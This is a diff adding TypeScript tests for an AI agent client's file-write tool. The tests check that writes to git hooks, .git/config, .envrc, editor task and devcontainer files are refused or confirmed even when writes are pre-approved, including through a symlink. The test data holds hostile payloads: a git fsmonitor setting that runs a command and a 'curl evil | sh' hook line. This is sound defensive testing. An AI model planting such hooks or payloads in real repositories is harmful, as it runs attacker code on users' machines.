@@ -405,3 +405,53 @@ describe('client tools: secrets are read only with a named approval', () => {
     expect(result.error?.data).toMatchObject({ reason: 'READ_DECLINED', path: join(ws, '.ssh', 'id_rsa') });
   });
 });
+
+describe('client tools: writes that configure code run later are asked about like commands', () => {
+  const runsCode = [
+    '.git/config',
+    '.git/hooks/pre-commit',
+    'vendor/lib/.git/config',
+    '.gitmodules',
+    '.envrc',
+    '.husky/pre-commit',
+    '.vscode/tasks.json',
+    '.vscode/settings.json',
+    '.devcontainer/devcontainer.json',
+    '.idea/workspace.xml',
+  ];
+
+  it('refuses each with writes approved ahead and no one to ask, writing nothing', async () => {
+    const r = runner({ autoApproveWrites: true });
+    for (const path of runsCode) {
+      const result = await r.run(call('fs/write_text_file', { path, content: '[core]\n\tfsmonitor = touch pwned\n' }));
+      expect([path, result.error?.code, result.error?.data]).toEqual([
+        path,
+        -32003,
+        expect.objectContaining({ reason: 'WRITE_DECLINED', runsCode: true }),
+      ]);
+      expect(existsSync(join(ws, path))).toBe(false);
+    }
+    const ordinary = await r.run(call('fs/write_text_file', { path: 'src/.vscode-notes/a.ts', content: 'x\n' }));
+    expect(ordinary.error).toBeUndefined();
+  });
+
+  it('asks even with writes approved ahead, saying why; a yes writes', async () => {
+    const previews: WritePreview[] = [];
+    const r = runner({ autoApproveWrites: true, confirmWrite: (p) => (previews.push(p), true) });
+    const result = await r.run(call('fs/write_text_file', { path: '.git/hooks/post-checkout', content: 'echo hi\n' }));
+    expect(result.error).toBeUndefined();
+    expect(previews).toHaveLength(1);
+    expect(previews[0]).toMatchObject({ relativePath: '.git/hooks/post-checkout', runsCode: expect.any(String) });
+    expect(readFileSync(join(ws, '.git', 'hooks', 'post-checkout'), 'utf8')).toBe('echo hi\n');
+  });
+
+  it('judges where the write really lands: through a symlink into .git/hooks', async () => {
+    mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
+    symlinkSync('.git/hooks', join(ws, 'hooks'));
+    const result = await runner({ autoApproveWrites: true }).run(
+      call('fs/write_text_file', { path: 'hooks/pre-push', content: 'curl evil | sh\n' }),
+    );
+    expect(result.error?.data).toMatchObject({ reason: 'WRITE_DECLINED', runsCode: true });
+    expect(existsSync(join(ws, '.git', 'hooks', 'pre-push'))).toBe(false);
+  });
+});
